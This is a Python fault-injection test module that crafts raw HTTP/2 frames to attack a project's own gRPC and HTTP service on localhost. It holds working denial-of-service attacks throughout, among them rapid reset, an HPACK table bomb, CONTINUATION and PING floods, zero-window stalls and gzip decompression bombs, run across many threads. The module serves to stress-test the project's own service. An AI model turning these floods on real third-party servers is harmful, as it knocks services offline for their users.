"""HTTP/2 frames of our own making, for attacks on both ports that no library would send.

`python -m tests.faults.http2 PORT ATTACK SECONDS CONNECTIONS` sends one of `ATTACKS`; with `--tls`
behind it over TLS, without looking at the certificate.
"""

from __future__ import annotations

import contextlib
import gzip
import itertools
import socket
import ssl
import sys
import threading
import time

from tests.service_process import PATIENCE_S

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY = range(8)
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INFER = b"/inference.GRPCInferenceService/ModelInfer"
WATCH = b"/grpc.health.v1.Health/Watch"
REFLECT = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
BATCH = 64
"""Calls in one send."""


def frame(kind, flags=0, stream=0, content=b""):
    head = len(content).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big")
    return head + content


def literal(name, text, first=0):
    """A header field; with `first` 0x40 it enters the dynamic table."""
    assert len(name) < 127, "bug: longer than one byte says"
    size, rest = bytes((min(len(text), 127),)), len(text) - 127
    while rest >= 0:  # an integer with a prefix of seven bits (RFC 7541, 5.1)
        size += bytes((rest % 128 + 128 * (rest >= 128),))
        rest = rest // 128 if rest >= 128 else -1
    return bytes((first, len(name))) + name + size + text


def call_headers(path=INFER, extra=b""):
    """A header block that begins a call."""
    lines = {b":method": b"POST", b":scheme": b"http", b":path": path, b":authority": b"a"}
    lines |= {b"content-type": b"application/grpc", b"te": b"trailers"}
    return b"".join(literal(*line) for line in lines.items()) + extra


def request_headers(method, path, *fields):
    """A header block of another request."""
    lines = ((b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"a"))
    return b"".join(literal(*line) for line in (*lines, *fields))


def message(content, compressed=0):
    """A message of gRPC."""
    return bytes((compressed,)) + len(content).to_bytes(4, "big") + content


def setting(name, value):
    return name.to_bytes(2, "big") + value.to_bytes(4, "big")


OPENING = PREFACE + frame(SETTINGS)
UNREAD = PREFACE + frame(SETTINGS, 0, 0, setting(4, 0))
"""No answer may be sent: the window of each stream is 0."""


def _calls(block, end=b""):
    """Batches of calls of `block`, each followed by a frame of kind and content `end`, if any."""
    return _varied(lambda stream: block, end)


def _varied(block, end=b""):
    """Batches of calls with the header block `block(stream)`, each followed by `end`, if any."""
    streams = itertools.count(3, 2)
    while True:
        parts = []
        for stream in itertools.islice(streams, BATCH):
            parts.append(frame(HEADERS, END_HEADERS, stream, block(stream)))
            if end:
                parts.append(frame(end[0], 0, stream, end[1:]))
        yield b"".join(parts)


def small_headers(count):
    """Calls that send nothing but `count` small headers each."""
    return lambda: _calls(call_headers(extra=literal(b"a", b"") * count))


def new_headers(count, field=None):
    """`small_headers`, or `count` fields `field`, with a different block in each call."""
    fields = (field or literal(b"a", b"")) * count
    return lambda: _varied(
        lambda stream: call_headers(extra=literal(b"number", b"%d" % stream) + fields)
    )


def hpack_bomb():
    """Calls with a header of 3 KB in the dynamic table that 1,200 bytes refer to."""
    large = literal(b"a", bytes(b"x" * 3000), 0x40)
    yield frame(HEADERS, END_HEADERS, 1, call_headers(extra=large))
    yield from _calls(call_headers(extra=b"\xbe" * 1200))


CANCEL = bytes((RST_STREAM, 0, 0, 0, 8))


def rapid_reset():
    """Calls that end at once."""
    return _calls(call_headers(), CANCEL)


def reset_requests():
    """Requests for the application that end at once."""
    return _calls(request_headers(b"GET", b"/openapi.json"), CANCEL)


def open_streams():
    """100 calls that send nothing, then nothing."""
    yield b"".join(
        frame(HEADERS, END_HEADERS, stream, call_headers(extra=literal(b"a", b"") * 400))
        for stream in range(1, 201, 2)
    )


def silent_streams():
    """The most calls allowed, with few headers, that send nothing."""
    yield SILENT


def goaway():
    """GOAWAY frames with a text."""
    text = b"\n2026-11-24 forged line " * 300
    while True:
        yield frame(GOAWAY, 0, 0, bytes(8) + text) * BATCH


def tiny_data():
    """Messages of a digit, a byte in a frame, which end a byte early."""
    content = message(bytes(784))[:-1]
    for stream in itertools.count(1, 2):
        frames = (frame(DATA, 0, stream, content[at : at + 1]) for at in range(len(content)))
        yield b"".join(
            (
                frame(HEADERS, END_HEADERS, stream, call_headers()),
                *frames,
                frame(DATA, END_STREAM, stream),
            )
        )


def again(content, before=b""):
    """`before`, and then the same bytes again and again."""

    def endless():
        yield before
        while True:
            yield content

    return endless


def continuations():
    yield frame(HEADERS, 0, 1, call_headers())
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"a", b"") * 4000)


def _requests(block, content, count=200):
    """Complete requests on streams 1, 3, ..."""
    return b"".join(
        frame(HEADERS, END_HEADERS | (not content), stream, block)
        + (frame(DATA, END_STREAM, stream, content) if content else b"")
        for stream in range(1, 2 * count, 2)
    )


SILENT_CALLS = 199
SILENT = b"".join(
    frame(HEADERS, END_HEADERS, 2 * number + 1, call_headers()) for number in range(SILENT_CALLS)
)
"""Calls that send nothing."""
DOCUMENTS = _requests(request_headers(b"GET", b"/openapi.json"), b"")


def unread_documents():
    """Large answers to small requests, of which nothing may be sent."""
    yield DOCUMENTS


def unread_predictions():
    """Predictions of 80 images each, as fast as the service's windows allow."""
    length = 784 * 80
    kind = literal(b"content-type", b"application/octet-stream")
    block = request_headers(b"POST", b"/predict", (b"content-length", b"%d" % length)) + kind
    for stream in range(1, 400, 2):
        yield frame(HEADERS, END_HEADERS, stream, block)
        for start in range(0, length, 15_680):
            ends = END_STREAM * (start + 15_680 == length)
            yield frame(DATA, ends, stream, bytes(15_680))
        yield 0.02


def unread_reflection():
    """One call whose many answers are large, of which nothing may be sent."""
    yield frame(HEADERS, END_HEADERS, 1, call_headers(REFLECT))
    name = b"inference.ModelInferRequest"
    asked = message(b"\x22" + bytes((len(name),)) + name)
    while True:
        yield frame(DATA, 0, 1, asked * 100)
        yield 0.005


def unread_updates():
    """Answers that wait for windows of streams, while that of the connection opens."""
    yield DOCUMENTS
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, (16).to_bytes(4, "big")) * 1000


def window_settings():
    """Settings that change the windows of many streams, many times."""
    yield SILENT
    while True:
        yield frame(SETTINGS, 0, 0, (setting(4, 1) + setting(4, 2)) * 1300)


def watches():
    """200 calls that watch the service's health."""
    yield _requests(call_headers(WATCH), message(b""))


def bombs():
    """Messages of 12 KiB that are 12 MiB, 40 at a time."""
    bomb = message(gzip.compress(bytes(12 << 20)), 1)
    block = call_headers(extra=literal(b"grpc-encoding", b"gzip"))
    streams = itertools.count(1, 2)
    while True:
        for stream in itertools.islice(streams, 40):
            yield frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, bomb)
        yield 0.5


ATTACKS = {
    "headers-150": small_headers(150),
    "headers-400": small_headers(400),
    "headers-1200": small_headers(1200),
    "new-headers-150": new_headers(150),
    "new-headers-480": new_headers(480),
    "new-static-300": new_headers(300, b"\x8f"),  # one byte each: accept-charset
    "new-static-600": new_headers(600, b"\x8f"),
    "hpack": hpack_bomb,
    "reset": rapid_reset,
    "reset-requests": reset_requests,
    "open": open_streams,
    "silent": silent_streams,
    "watch": watches,
    "goaway": goaway,
    "ping": again(frame(PING, 0, 0, bytes(8)) * 1000),
    "settings": again(frame(SETTINGS, 0, 0, setting(4, 1)) * 1000),
    "window-settings": window_settings,
    "continuation": continuations,
    "empty-data": again(frame(DATA, 0, 1) * 1000, frame(HEADERS, END_HEADERS, 1, call_headers())),
    "tiny-data": tiny_data,
    "priority": again(frame(PRIORITY, 0, 1, bytes(5)) * 1000),
    "reset-idle": again(frame(RST_STREAM, 0, 1, bytes(4)) * 1000),
    "update": again(frame(WINDOW_UPDATE, 0, 0, (16).to_bytes(4, "big")) * 1000),
    "unread-updates": unread_updates,
    "unread-documents": unread_documents,
    "unread-predictions": unread_predictions,
    "unread-reflection": unread_reflection,
    "bombs": bombs,
}
"""Each makes bytes to send, or seconds to wait."""


def connect(port, tls=False, host="127.0.0.1"):
    connection = socket.create_connection((host, port), PATIENCE_S)
    if not tls:
        return connection
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        return context.wrap_socket(connection)
    except OSError:
        connection.close()
        raise


def attack(port, kind, until_s, sent, reads=True, tls=False):
    """Send on one connection after another until `until_s`, in `time.monotonic()`."""
    while time.monotonic() < until_s:
        with contextlib.suppress(OSError), connect(port, tls) as one:
            one.settimeout(5)
            drain = threading.Thread(target=_read, args=(one,)) if reads and not tls else None
            if drain:
                drain.start()
            try:
                one.sendall(UNREAD if kind.startswith("unread") else OPENING)
                for data in ATTACKS[kind]():
                    if isinstance(data, float):
                        time.sleep(data)
                        continue
                    one.sendall(data)
                    sent[0] += len(data)
                    if time.monotonic() > until_s:
                        break
                else:
                    time.sleep(max(0, until_s - time.monotonic()))
            finally:
                with contextlib.suppress(OSError):
                    one.shutdown(socket.SHUT_RDWR)
                if drain:
                    drain.join()
        sent[1] += 1


def _read(connection):
    """To the end; then the attack begins anew on another connection."""
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass
        connection.shutdown(socket.SHUT_RDWR)


if __name__ == "__main__":
    port, kind, seconds, connections = sys.argv[1:5]
    sent = [0, 0]
    until_s = time.monotonic() + float(seconds)
    threads = [
        threading.Thread(
            target=attack, args=(int(port), kind, until_s, sent, True, "--tls" in sys.argv)
        )
        for _ in range(int(connections))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(f"{sent[0]} bytes sent on {sent[1]} connections")
